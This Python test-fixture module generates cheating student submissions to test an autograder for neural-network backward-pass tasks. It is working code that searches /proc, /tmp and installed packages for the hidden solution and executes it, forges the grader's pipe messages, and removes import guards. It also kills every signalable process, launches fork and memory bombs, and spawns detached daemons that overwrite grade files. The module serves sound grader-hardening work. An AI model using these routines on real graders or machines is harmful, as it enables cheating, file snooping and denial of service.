"""Submissions that try to beat the grader, written for these tests.

Each function returns the text of a student's file: the untouched stub with code added at
its end (a student hands in the whole file, so redefining the graded function there is the
simplest way in). Some take the real paths of the instructor's copy or of the grade file:
the attacks then know everything a determined student could find out.

The classes are those a grader that ran student code beside the solutions fell to: delegating to a
solution on disk, calling another task's solution, not deriving the gradient (finite
differences, autodiff), values never checked (zeros), tampering from inside the process,
processes that outlive grading, and leaking the solution through feedback.
"""

from __future__ import annotations

import textwrap

# --- finding and running a solution on disk --------------------------------------------------

FIND_REFERENCE = '''
def _find_reference(rel, known=(), walk=False, wide=True):
    """A file `rel` holding solution markers, wherever this process can look (``wide``: the
    programs' command lines, /tmp and the installed packages too, where other copies may be)."""
    import glob, os, re, sys, time
    places = set(known) | {"/autograder/source", "/autograder"}
    for pid in os.listdir("/proc"):  # the grader's working folder, environment and command line
        if not pid.isdigit():
            continue
        for link in ("cwd", "root"):
            try:
                places.add(os.readlink(f"/proc/{pid}/{link}"))
            except OSError:
                pass
        for name in ("environ", "cmdline") if wide else ("environ",):
            try:
                data = open(f"/proc/{pid}/{name}", "rb").read().decode(errors="replace")
            except OSError:
                continue
            places.update(re.findall(r"(/[\\w.+-]+(?:/[\\w.+-]+)*)", data))
    if wide:
        places.update(glob.glob("/tmp/*") + glob.glob("/tmp/*/*") + glob.glob("/tmp/*/*/*"))  # other tasks' folders
    for entry in list(sys.path) if wide else []:  # an installed twins_np: .pth files and editable finders name its folder
        places.add(entry)
        for f in glob.glob(entry + "/*.pth") + glob.glob(entry + "/__editable__*.py"):
            try:
                places.update(re.findall(r"(/[\\w.+-]+(?:/[\\w.+-]+)*)", open(f).read()))
            except OSError:
                pass
    for place in sorted(places):
        for up in range(4):
            path = os.path.join(place, *[".."] * up, rel)
            try:
                text = open(path).read()
            except OSError:
                continue
            if "BEGIN SOLUTION" in text:
                return os.path.normpath(path), text
    if walk:  # every folder of the machine this process can list, for a few seconds
        stop = time.monotonic() + 8
        for dirpath, dirnames, filenames in os.walk("/"):
            if time.monotonic() > stop:
                break
            dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev")]
            if dirpath.endswith(os.path.dirname(rel)) and os.path.basename(rel) in filenames:
                path = os.path.join(dirpath, os.path.basename(rel))
                try:
                    text = open(path).read()
                except OSError:
                    continue
                if "BEGIN SOLUTION" in text:
                    return path, text
    return None, None


def _run_reference(rel, name, known=(), walk=False, wide=True):
    path, text = _find_reference(rel, known, walk, wide)
    if text is None:
        raise RuntimeError("no solution found")
    package = "twins_np." + rel[len("twins_np/"):-len(".py")].rpartition("/")[0].replace("/", ".")
    ns = {"__name__": package + "._found", "__package__": package}
    exec(compile(text, path, "exec"), ns)
    return ns[name]
'''


def _append(stub: str, code: str) -> str:
    return stub + "\n\n# --- added by the submission ---\n" + textwrap.dedent(code)


def reference_on_disk(stub: str, task: str, known: list[str], walk: bool = False, wide: bool = True) -> str:
    """Find the instructor's solution (its folder, /proc of the grader, the autograder layout;
    ``wide``: also programs' paths, /tmp, installed copies; ``walk``: the whole file system)
    and run it."""
    rel, fn = {"gelu_backward": ("twins_np/functional/activation.py", "gelu_backward"),
               "ffn_backward": ("twins_np/functional/mlp.py", "mlp_backward"),
               "layernorm_backward": ("twins_np/functional/layernorm.py", "layernorm_backward")}[task]  # fmt: skip
    return _append(stub, FIND_REFERENCE + f'''
try:  # at import: the search's time is not the call's
    _FOUND = _run_reference({rel!r}, {fn!r}, known={known!r}, walk={walk!r}, wide={wide!r})
except Exception:
    _FOUND = None

def {fn}(dout, cache):
    if _FOUND is None:
        raise RuntimeError("no solution found")
    return _FOUND(dout, cache)
''')


# --- calling another task's solution -----------------------------------------------------------


def layernorm_as_group_norm(stub: str) -> str:
    """LayerNorm's backward is GroupNorm's with one group per row."""
    return _append(stub, """
def layernorm_backward(dout, cache):
    from twins_np.functional.norm2d import GroupNormCache, group_norm_backward
    xhat, inv_std, gamma = cache
    C = xhat.shape[-1]
    g = GroupNormCache(xhat.reshape(-1, 1, C), inv_std.reshape(-1, 1, 1, 1), gamma, 1)
    dx, dgamma, dbeta = group_norm_backward(dout.reshape(-1, 1, C), g)
    return dx.reshape(dout.shape), dgamma, dbeta
""")


def layernorm_as_batch_norm(stub: str) -> str:
    """... or BatchNorm's in training on the transposed rows (one channel per row)."""
    return _append(stub, """
def layernorm_backward(dout, cache):
    import numpy as np
    from twins_np.functional import norm2d
    xhat, inv_std, gamma = cache
    C = xhat.shape[-1]
    rows = xhat.reshape(-1, C)
    R = rows.shape[0]
    cache_bn = norm2d.BatchNormCache(rows.T.reshape(1, 1, C, R), inv_std.reshape(-1), None, True)
    dxhat = (dout.reshape(-1, C) * gamma).T.reshape(1, 1, C, R)
    dx, _, _ = norm2d.batch_norm_backward(dxhat, cache_bn)
    d2 = dout.reshape(-1, C)
    return dx.reshape(C, R).T.reshape(dout.shape), (d2 * rows).sum(0), d2.sum(0)
""")


def ffn_asks_gelu_for_other_inputs(stub: str) -> str:
    """The FFN's worker may use the GELU backward, so ask it for the derivative on chosen inputs."""
    return _append(stub, """
def mlp_backward(dout, cache):
    import numpy as np
    from twins_np.functional import activation
    x = cache.act.x
    slope = activation.gelu_backward(np.ones_like(x), cache.act)  # not the call the reference makes
    da, dfc2_w, dfc2_b = linear_backward(dout, cache.fc2)
    dx, dfc1_w, dfc1_b = linear_backward(da * slope, cache.fc1)
    return dx, dfc1_w, dfc1_b, dfc2_w, dfc2_b
""")


# --- not deriving it ---------------------------------------------------------------------------


def layernorm_gradcheck(stub: str) -> str:
    """Finite differences, with the library's gradient checker if it can be imported, else by hand."""
    return _append(stub, """
def layernorm_backward(dout, cache):
    import numpy as np
    xhat, inv_std, gamma = cache
    x = xhat / inv_std  # an input with the same normalised values
    beta = np.zeros_like(gamma)
    try:
        from twins_np.gradcheck import numeric_gradient
    except ImportError:
        numeric_gradient = None
    def loss(x_, g_, b_):
        return float(np.sum(layernorm_forward(x_, g_, b_)[0] * dout))
    grads = []
    for arr in (x, gamma, beta):
        g = np.zeros_like(arr)
        flat, gflat = arr.reshape(-1), g.reshape(-1)
        for i in range(flat.size):
            old = flat[i]
            flat[i] = old + 1e-6
            up = loss(x, gamma, beta)
            flat[i] = old - 1e-6
            down = loss(x, gamma, beta)
            flat[i] = old
            gflat[i] = (up - down) / 2e-6
        grads.append(g)
    return tuple(grads)
""")


def layernorm_colored_differences(stub: str) -> str:
    """Finite differences that use the rows' independence: two forward passes per channel."""
    return _append(stub, """
def layernorm_backward(dout, cache):
    import numpy as np
    xhat, inv_std, gamma = cache
    x = xhat / inv_std
    beta = np.zeros_like(gamma)
    C = x.shape[-1]
    dx = np.zeros_like(x)
    h = 1e-5
    for c in range(C):  # one channel of every row at once: rows do not interact
        xp, xm = x.copy(), x.copy()
        xp[..., c] += h
        xm[..., c] -= h
        yp, ym = layernorm_forward(xp, gamma, beta)[0], layernorm_forward(xm, gamma, beta)[0]
        dx[..., c] = ((yp - ym) * dout).sum(-1) / (2 * h)
    d2 = dout.reshape(-1, C)
    return dx, (d2 * xhat.reshape(-1, C)).sum(0), d2.sum(0)
""")


def ffn_finite_differences(stub: str) -> str:
    """Finite differences of the FFN's forward, element by element."""
    return _append(stub, """
def mlp_backward(dout, cache):
    import numpy as np
    x, w1 = cache.fc1
    a, w2 = cache.fc2
    b1 = np.zeros(w1.shape[0], x.dtype)
    b2 = np.zeros(w2.shape[0], x.dtype)
    def loss():
        return float(np.sum(mlp_forward(x, w1, b1, w2, b2)[0] * dout))
    out = []
    for arr in (x, w1, b1, w2, b2):
        g = np.zeros_like(arr)
        for i in np.ndindex(arr.shape):
            old = arr[i]
            arr[i] = old + 1e-6
            up = loss()
            arr[i] = old - 1e-6
            g[i] = (up - loss()) / 2e-6
            arr[i] = old
        out.append(g)
    return tuple(out)
""")


def gelu_torch_autograd(stub: str) -> str:
    """PyTorch's autograd, after taking the grader's import hook away and finding site-packages."""
    return _append(stub, """
def gelu_backward(dout, cache):
    import glob, sys
    sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ not in ("_Block",)]
    for d in glob.glob("/usr/lib/python3*/*-packages") + glob.glob("/usr/local/lib/python3*/*-packages"):
        sys.path.append(d)
    for p in list(sys.path):  # a virtualenv's site-packages next to NumPy's
        if p.endswith("site-packages"):
            sys.path.extend(glob.glob(p.replace("site-packages", "*-packages")))
    import torch
    x = torch.tensor(cache.x, requires_grad=True)
    torch.nn.functional.gelu(x).backward(torch.tensor(dout))
    return x.grad.numpy().astype(dout.dtype)
""")


def gelu_vectorised_differences(stub: str) -> str:
    """Central differences of an elementwise function: two forward passes, as fast as the reference.
    The time limit cannot tell it from a solution; the static review flags the forward call."""
    return _append(stub, """
def gelu_backward(dout, cache):
    import numpy as np
    x = cache.x.astype(np.float64)
    h = 1e-5
    up, down = gelu_forward(x + h)[0], gelu_forward(x - h)[0]
    return (dout * ((up - down) / (2 * h))).astype(dout.dtype)
""")


# --- values never checked ----------------------------------------------------------------------


def zeros(stub: str, task: str) -> str:
    """Arrays of the right shapes and dtypes, all zeros."""
    body = {
        "gelu_backward": "def gelu_backward(dout, cache):\n    return np.zeros_like(dout)\n",
        "ffn_backward": ("def mlp_backward(dout, cache):\n    (x, w1), (a, w2) = cache.fc1, cache.fc2\n"
                         "    return (np.zeros_like(x), np.zeros_like(w1), np.zeros(w1.shape[0], x.dtype), np.zeros_like(w2),"
                         " np.zeros(w2.shape[0], x.dtype))\n"),  # fmt: skip
        "layernorm_backward": ("def layernorm_backward(dout, cache):\n    xhat, inv_std, gamma = cache\n"
                               "    return np.zeros_like(dout), np.zeros_like(gamma), np.zeros_like(gamma)\n"),  # fmt: skip
    }[task]
    return _append(stub, "import numpy as np\n\n" + body)


# --- tampering from inside the process -------------------------------------------------------


def forge_messages(stub: str) -> str:
    """At import, write the grader's messages itself: "ready", then results for the first cases."""
    return _append(stub, """
import json, os, struct, sys
def _forge():
    out = int(sys.argv[2])  # the worker's pipe to the grader
    for header in ({"op": "ready"}, {"op": "result", "value": None}, {"op": "result", "value": {"$a": 0}}):
        head = json.dumps(header).encode()
        os.write(out, struct.pack("<QI", len(head), 0) + head)
_forge()
""")


def huge_message(stub: str) -> str:
    """Claim a message larger than the machine's memory."""
    return _append(stub, """
import os, struct, sys
def gelu_backward(dout, cache):
    os.write(int(sys.argv[2]), struct.pack("<QI", 16, 1) + b'{"op":"result"}\\n' + struct.pack("<Q", 1 << 40))
    import time
    time.sleep(30)
""")


def kill_everything(stub: str) -> str:
    """Signal the parent, the process group, and every process this user may signal."""
    return _append(stub, """
import os, signal
def gelu_backward(dout, cache):
    for target in (os.getppid(), 1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)  # every process we may signal (ourselves too)
    except OSError:
        pass
    raise RuntimeError("still here")
""")


def write_files(stub: str, targets: dict[str, str]) -> str:
    """Write over the instructor's files and the grade files (their real paths, given)."""
    return _append(stub, f"""
import os
def _write():
    done = []
    for path, text in {targets!r}.items():
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(text)
            done.append(path)
        except OSError:
            pass
    return done
_WRITTEN = _write()
def gelu_backward(dout, cache):
    raise RuntimeError("wrote " + str(len(_WRITTEN)) + " files")
""")


def survivor(stub: str, token: str, target: str, text: str) -> str:
    """Children in new sessions (one plain, one double-forked) that sleep, then rewrite the grade file."""
    return _append(stub, f"""
import os, subprocess, sys
_CODE = ("import time; time.sleep(3)\\n"
         "try:\\n    open({target!r}, 'w').write({text!r})\\nexcept OSError:\\n    pass\\n"
         "time.sleep(120)  # {token}")
def _spawn():
    subprocess.Popen([sys.executable, "-c", _CODE], start_new_session=True, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)
    if os.fork() == 0:  # a daemon: fork, new session, fork again, parent gone
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", _CODE])
        os._exit(0)
_spawn()
""")


def fork_bomb(stub: str) -> str:
    """As many processes as the system gives, each sleeping."""
    return _append(stub, """
import os, time
def gelu_backward(dout, cache):
    n = 0
    try:
        while n < 10000:
            if os.fork() == 0:
                time.sleep(120)
                os._exit(0)
            n += 1
    except OSError:
        pass
    raise RuntimeError(f"forked {n}")
""")


def memory_bomb(stub: str) -> str:
    return _append(stub, """
import numpy as np
def gelu_backward(dout, cache):
    block = np.ones((1 << 34,), dtype=np.uint8)  # 16 GiB
    return dout * block[0]
""")


def exits(stub: str) -> str:
    return _append(stub, """
import os
def gelu_backward(dout, cache):
    os._exit(0)
""")


def hang_at_import(stub: str) -> str:
    return _append(stub, """
import time
while True:  # idle, so the test machine's cores stay free
    time.sleep(0.5)
""")


def fake_passed_output(stub: str) -> str:
    return _append(stub, """
import sys
for _ in range(1000):
    print("PASSED all tests 100%", flush=True)
    print("PASSED", file=sys.stderr, flush=True)
""")


# --- leaks through feedback --------------------------------------------------------------------


def leak_in_message(stub: str, solution_text: str) -> str:
    """An exception whose message is the solution's code (had the student found it)."""
    return _append(stub, f"""
def gelu_backward(dout, cache):
    raise ValueError({solution_text!r})
""")


def stop_reading(stub: str) -> str:
    """Answer the first call, then never read again: the grader's next (large) message would
    block a grader that writes without a deadline."""
    return _append(stub, """
import sys, time
def layernorm_backward(dout, cache):
    sys.modules["wire"].read_message = lambda *a, **k: time.sleep(1e9)
    return dout, dout, dout
""")
